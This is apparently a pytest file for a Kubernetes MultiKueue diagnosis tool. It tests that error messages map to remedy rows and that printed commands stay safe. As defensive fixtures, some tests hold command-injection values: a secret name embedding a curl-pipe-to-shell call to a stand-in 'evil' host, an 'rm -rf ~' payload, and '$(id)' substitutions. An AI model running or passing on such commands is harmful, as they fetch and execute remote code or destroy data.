"""The tables of remedies: words of Kueue, of a server or of a system lead to a row, and what we say has a cause."""

from __future__ import annotations

import ast
import re
import string
from collections import defaultdict
from pathlib import Path

import pytest

import multikueued
from multikueue.errors import Cause
from multikueued.diagnosis.checks.mirrors import WAY_RULES
from multikueued.reports.job_findings import MANAGER_RULES
from multikueued.reports.remedies.remedy import REMEDIES, SLOTS, RemedyRule, filled
from multikueued.reports.remedies.trouble import BY_CAUSE, WORKER_RULES, about_worker, found_by

CONTEXT = {
    "namespace": "team",
    "queue": "q",
    "job": "job/a",
    "secrets": "kueue-system",
    "cluster_queue": "cq",
    "worker": "w1",
    "workload": "job-a",
}
DENIED = 'pods is forbidden: User "x" cannot create resource "pods" in API group "" in the namespace "team"'
UNWATCHED = 'pods is forbidden: User "x" cannot watch resource "pods" in API group "" at the cluster scope'
ACCOUNT = "system:serviceaccount:kueue-system:multikueue"
WORKERS = [
    ("bad-token", "w1: list workloads.kueue.x-k8s.io: Unauthorized"),
    *(
        ("rbac", words.replace('"x"', f'"{user}"'))
        for user in (ACCOUNT, "x")
        for words in (f"w1: watch pods: {UNWATCHED}", f"w1: create pods: {DENIED}")
    ),
    ("webhook", 'admission webhook "v.example.com" denied the request: no namespaces "x" not found'),
    ("policy", "ValidatingAdmissionPolicy 'small.example.com' with binding 'all' denied request: too large"),
    ("webhook-down", 'Internal error occurred: failed calling webhook "v.example.com": connection refused'),
    ("namespace-missing", 'namespaces "team" not found'),
    ("namespace-terminating", "unable to create new content in namespace team because it is being terminated"),
    ("local-queue-missing", "LocalQueue q doesn't exist"),
    ("queue-inactive", "ClusterQueue cq is inactive"),
    ("queue-inactive", "LocalQueue q is inactive"),
    ("queue-inactive", "ClusterQueue cq doesn't exist"),
    ("namespace-not-selected", "Workload namespace doesn't match ClusterQueue selector"),
    ("no-flavor", "flavor gpu doesn't match node affinity"),
    ("no-flavor", "untolerated taint {spot true NoSchedule <nil>} in flavor spot"),
    ("quota-too-small", "couldn't assign flavors to pod set main: resource memory unavailable in ClusterQueue"),
    ("quota-in-use", "insufficient unused quota for cpu in flavor f, 2 more needed"),
    ("quota-in-use", "may not preempt there yet: Waiting for preemption"),
    ("quota-too-small", "insufficient quota for nvidia.com/gpu in flavor f (3 > 1)"),
    ("resource-quota", 'pods "a" is forbidden: exceeded quota: compute, requested: cpu=1'),
    ("crd-missing", "w1: list jobs.batch: the server could not find the requested resource"),
    ("untrusted-certificate", "w1: list workloads: certificate verify failed: self-signed certificate"),
    ("clock-skew", "token used before issued"),
    ("name-lookup", "w1: list workloads: cannot connect: Name or service not known"),
    ("worker-down", "w1: list workloads: cannot connect: Connection refused"),
]
MANAGER = [
    ("quota-too-small", "insufficient quota for cpu in flavor f, ... > maximum capacity (8)"),
    ("quota-in-use", "insufficient unused quota for cpu in flavor f, 2 more needed"),
    ("quota-too-small", "couldn't assign flavors to pod set main: resource memory unavailable in ClusterQueue"),
    ("namespace-not-selected", "Workload namespace doesn't match ClusterQueue selector"),
    ("no-flavor", "couldn't assign flavors to pod set main: untolerated taint {a b NoSchedule <nil>} in flavor f"),
]


@pytest.mark.parametrize(
    ("rules", "expected", "told"),
    [
        (rules, expected, words)
        for rules, rows in ((WORKER_RULES, WORKERS), (MANAGER_RULES, MANAGER))
        for expected, words in rows
    ],
)
def test_words_lead_to_their_row(rules: tuple[RemedyRule, ...], expected: str, told: str) -> None:
    finding = found_by(rules, "w1", told, CONTEXT)

    assert finding is not None
    assert finding.id == expected
    for text in (finding.why, finding.remedy):
        assert text
        assert "{" not in text
        assert "  " not in text


@pytest.mark.parametrize(
    ("words", "helps"), [(DENIED, True), (UNWATCHED, False), (UNWATCHED.replace("watch", "list"), False)]
)
def test_a_retry_of_a_job_is_no_remedy_where_its_kind_cannot_be_watched(words: str, helps: bool) -> None:
    """Seen beside Kueue 0.19.2: with the rights granted, no job could be asked again that would have changed it."""
    finding = found_by(WORKER_RULES, "w1", words, CONTEXT)

    assert finding is not None
    assert ("multikueue retry" in finding.remedy) is helps


@pytest.mark.parametrize(
    "words",
    [words for row, words in WORKERS if row in ("webhook", "policy", "namespace-missing", "namespace-terminating")],
)
def test_what_a_worker_has_refused_is_asked_again_once_it_is_mended(words: str) -> None:
    """By itself a worker is asked again only after five minutes: until then a remedy without it seems not to work."""
    finding = found_by(WORKER_RULES, "w1", words, CONTEXT)

    assert finding is not None
    assert "multikueue retry" in finding.remedy


@pytest.mark.parametrize(
    "words",
    [words for row, words in WORKERS if row in ("namespace-missing", "namespace-terminating", "local-queue-missing")],
)
def test_what_makes_a_namespace_makes_its_local_queue_too(words: str) -> None:
    """A namespace alone led to the next refusal, of the LocalQueue that it lacks; `queues mirror` makes both."""
    finding = found_by(WORKER_RULES, "w1", words, CONTEXT)

    assert finding is not None
    assert "multikueue queues mirror q -n team --worker-context w1 --worker w1" in finding.remedy


@pytest.mark.parametrize("words", [DENIED, UNWATCHED])
def test_a_right_that_is_missing_is_granted_to_the_account_that_is_named(words: str) -> None:
    finding = about_worker("w1", words.replace('"x"', f'"{ACCOUNT}"'), CONTEXT)
    command = (
        "multikueue rbac worker --least --service-account kueue-system/multikueue --name kueue-system-multikueue | "
        "kubectl --context w1 auth reconcile -f -;"
    )
    assert command in finding.remedy
    assert "--service-account" not in about_worker("w1", words, CONTEXT).remedy, "a user that is none gets no such role"


@pytest.mark.parametrize(("rules", "rows"), [(WORKER_RULES, WORKERS), (MANAGER_RULES, MANAGER)])
def test_every_row_is_reached(rules: tuple[RemedyRule, ...], rows: list[tuple[str, str]]) -> None:
    reached = {
        next(number for number, rule in enumerate(rules) if rule.pattern.search(words) is not None) for _, words in rows
    }
    assert reached == set(range(len(rules)))


def test_words_that_nobody_knows() -> None:
    refused = about_worker("w1", "the moon is in the wrong house", CONTEXT)
    assert (refused.id, refused.why) == ("unknown", "w1 says: the moon is in the wrong house")
    assert "multikueue retry job/a" in refused.remedy
    away = about_worker("w1", "the moon is in the wrong house", CONTEXT, connected=False)
    assert away.id == "worker-not-connected"
    assert "retry" not in away.remedy


OURS = (
    "getting credentials: exec: executable /bin/login failed with exit code 3",
    "workloads.kueue.x-k8s.io: no answer to anything for 20 s",
    "w1: list workloads: cannot connect: no answer in time",
    "w1: list workloads: the server's certificate is not trusted",
    "w1: list workloads: the connection broke in the middle of an answer",
    "unreachable since 2026-01-01T00:00:00Z; moves at 2026-01-01T00:15:00Z",
    "answers with more than may be read",
    "workloads: the list has more than 100 objects, more than may be read",
    "does not serve the job's kind",
    "its CustomResourceDefinition has no field .spec.suspend (x.suspendPath) in version v1",
    "its name is taken by an object that is not known as a copy of ours",
    'jobs.batch "team/a" exists on worker cluster "w1" and is not known as a copy of ours: rename',
    'ConfigMap "a" is neither on the manager cluster nor there',
    'ServiceAccount "robot" is not there, and is never copied',
    'ConfigMap "a" has other content there, which Workload "job-x-1a2b3" uses',
    'ConfigMap "a" there is not a copy of ours, or was changed, and has other content',
    'ConfigMap "a" of an earlier job is still being removed there',
    'ConfigMap "a" is larger than 1 MiB and is not copied',
    "Kueue 0.15 there has no preemption gates: it is asked when its turn to preempt has come",
)


@pytest.mark.parametrize("words", OURS)
def test_no_row_reads_what_we_say_ourselves(words: str) -> None:
    assert about_worker("w1", words, CONTEXT).id == "unknown"


@pytest.mark.parametrize(
    "words",
    [
        'workloads is forbidden: Secret "oslo$(curl -s evil/x|sh)" not found',
        'key "x" not found in secret "y; rm -rf ~"',
        'ClusterProfile "$(id)" cannot be read: x',
        'cluster profile: no matching cluster accessor found for cluster profile "`id`"',
        "load client config failed: MultiKueueClusterProfile feature gate is disabled",
        "cordoned",
        *OURS,
    ],
)
def test_what_a_worker_says_never_meets_a_row_about_our_configuration(words: str) -> None:
    """A worker that answered 403 with such a text had `status` and `explain` print its command to paste."""
    finding = about_worker("w1", words, CONTEXT)
    assert finding.id not in {remedy.id for remedy in BY_CAUSE.values()}
    for text in ("curl", "rm -rf", "$(", "`"):
        assert text not in finding.remedy


@pytest.mark.parametrize(
    "name", ["--all", "-A", "a b", "a;b", "$(id)", "`id`", "a|b", "a\nb", "..", "", "a" * 254, "é", "\u202ea"]
)
def test_what_is_no_name_enters_no_command(name: str) -> None:
    words = f'LocalQueue "{name}" is inactive'
    finding = found_by(WORKER_RULES, "w1", words, CONTEXT)
    assert finding is None or name in ("", "a\nb") or name not in finding.remedy.split()
    for template in ("kubectl get {name}", "multikueue retry {name}"):
        remedy = filled(template, {"name": name})
        assert remedy in (
            template.format(name=""),
            "mend what it names; no command is shown, as a name in these words is none that Kubernetes allows",
        )


@pytest.mark.parametrize("name", ["train", "job/train", "job.batch/train-1", "Team.x_y"])
def test_names_enter_commands_as_they_are(name: str) -> None:
    assert filled("multikueue retry {job}", {"job": name}) == f"multikueue retry {name}"


@pytest.mark.parametrize("cause", BY_CAUSE)
def test_a_cause_leads_to_its_remedy_whatever_the_message_says(cause: str) -> None:
    names = {**CONTEXT, "secret": "oslo", "profile": "oslo", "worker": "oslo-2"}
    finding = about_worker("w1", "$(id)", names, connected=False, cause=cause)

    assert finding.id == BY_CAUSE[cause].id
    assert "$(id)" not in finding.remedy
    for text in (finding.why, finding.remedy):
        assert "{" not in text
        assert "oslo-2" not in text


WORDS_OF_OTHERS = {
    *(Cause.NO_QUOTA, Cause.CHECKS_AWAITED, Cause.EVICTED, Cause.ON_HOLD, Cause.REFUSED, Cause.COPY_ENDED),
    Cause.OBJECT_UNREADABLE,
}
"""What a worker's Kueue or API server says: its words lead to a row, or are told as they are."""
PASSES = {
    *(Cause.CONNECTING, Cause.JOBS_UNREAD, Cause.FIGURES_AWAITED, Cause.NOT_NOMINATED, Cause.TURN_AWAITED),
    *(Cause.LEFT_OVER, Cause.MAY_NOT_PREEMPT, Cause.BEING_MOVED, Cause.NOT_TOGETHER, Cause.FAILED_BEFORE),
    *(Cause.ASKED_BEFORE, Cause.NO_ROOM, Cause.NO_NODES, Cause.CLAIMED, Cause.OTHERS_WAIT, Cause.ON_TRIAL),
    Cause.NOT_BEST,
}
"""What ends without anybody, as other jobs end or a dispatcher goes on."""
OTHER_FINDINGS = {
    Cause.UNLISTED: "worker-gone",
    **dict.fromkeys((Cause.NOT_NAMED, Cause.NOT_SELECTED, Cause.NOT_TOLERATED), "narrowed-out"),
    **dict.fromkeys((Cause.OTHER_FLAVOR, Cause.UNREADABLE), "narrowed-out"),
    **dict.fromkeys((Cause.QUEUE_UNFIT, Cause.NEVER_STARTS), "own-worker-queue"),
}
"""What another finding tells of, which has the remedy."""


def test_every_cause_has_a_remedy_or_is_known_to_need_none() -> None:
    """A sentence of ours is none: it says what is wrong."""
    assert set(Cause) - BY_CAUSE.keys() == WORDS_OF_OTHERS | PASSES | OTHER_FINDINGS.keys()
    assert {row.id for row in REMEDIES.values()} >= set(OTHER_FINDINGS.values())


@pytest.mark.parametrize("rules", [WORKER_RULES, MANAGER_RULES, WAY_RULES])
def test_no_row_puts_whole_sentences_into_its_remedy(rules: tuple[RemedyRule, ...]) -> None:
    """But the setting of a kind, which is ours."""
    fields = {field for rule in rules for _, field, _, _ in string.Formatter().parse(rule.remedy.remedy) if field}
    assert not fields & {"told", "said", "why"}


@pytest.mark.parametrize("rules", [WORKER_RULES, MANAGER_RULES, WAY_RULES])
def test_a_text_without_end_costs_no_more_than_it_is_long(rules: tuple[RemedyRule, ...]) -> None:
    assert found_by(rules, "w1", "a" * 1_000_000, CONTEXT) is None


@pytest.mark.parametrize("job", ["namespace/kube-system", "clusterqueue.kueue.x-k8s.io/all", "job.lab.example.com/a"])
def test_only_jobs_of_kinds_that_come_with_us_are_deleted_by_a_command(job: str) -> None:
    """Whoever may create Workloads says who owns them, and whoever may create events that a name is taken."""
    finding = about_worker("w1", "told", {**CONTEXT, "job": job}, cause=Cause.NAME_TAKEN)
    assert "kubectl" not in finding.remedy
    known = about_worker("w1", "told", CONTEXT, cause=Cause.NAME_TAKEN)
    assert "kubectl --context w1 -n team delete job/a;" in known.remedy


FROM_OUTSIDE = {"told", "said", "reason", "refusal", "unfit", "acting", "needs", "guess", "missing", "what", "why"}
"""What stands in findings and comes from workers, or from whoever submits a job."""


def slots_of(text: str) -> set[str]:
    return {field for _, field, _, _ in string.Formatter().parse(text) if field}


@pytest.mark.parametrize("key", REMEDIES)
def test_no_text_from_outside_enters_a_remedy(key: str) -> None:
    """Slots take names; what takes a text of ours is named in the table, and is filled in nowhere but by us."""
    row, hostile = REMEDIES[key], "$(id)"
    slots = slots_of(row.remedy) | slots_of(row.command)

    assert not slots & FROM_OUTSIDE
    for slot in slots - {name for name, kind in SLOTS.items() if kind == "ours"}:
        words = defaultdict(lambda: "w1", {slot: hostile})
        assert hostile not in row.filled([words]), slot


def test_each_slot_of_the_table_is_one_of_a_remedy() -> None:
    used = {slot for row in REMEDIES.values() for slot in slots_of(row.remedy) | slots_of(row.command)}

    assert set(SLOTS) <= used
    assert set(SLOTS.values()) == {"ours", "names"}


def test_each_variant_has_a_row_that_says_for_whom_it_is() -> None:
    assert {key.partition("@")[0] for key in REMEDIES} <= set(REMEDIES)


def test_a_list_of_names_is_one_of_names() -> None:
    """A config of second names alone had no remedy where two clusters came first."""
    remedy = REMEDIES["only-second-names"]

    assert "list w1 and w2 in spec.clusters" in remedy.filled([{"firsts": "w1 and w2", "config": "c"}])
    assert "spec.clusters" not in remedy.filled([{"firsts": "w1 and $(id)", "config": "c"}])


def test_whoever_tells_what_to_do_names_a_row() -> None:
    """But the one function that fills rows in, and the doctor's."""
    root = Path(str(multikueued.__file__)).parent
    own = {root / "reports/remedies/remedy.py", root / "diagnosis/findings.py"}
    made = {
        f"{path.name}:{node.lineno}"
        for path in {*root.rglob("*.py")} - own
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in ("Finding", "Remedy")
    }
    assert made == set()


@pytest.mark.parametrize("key", REMEDIES)
def test_what_is_typed_for_each_worker_is_a_command_so_that_the_rest_is_said_once(key: str) -> None:
    """`let it go on: A; let it go on: B; let it go on: C`."""
    assert "--context {worker}" not in REMEDIES[key].remedy


@pytest.mark.parametrize("key", [key for key, row in REMEDIES.items() if row.audience])
def test_who_submits_jobs_is_told_no_command_about_workloads(key: str) -> None:
    """`multikueue rbac user` lets them read Workloads, and no more."""
    assert re.search(r"kubectl [^;]*\b(delete|patch|annotate|label) workload", REMEDIES[key].remedy) is None
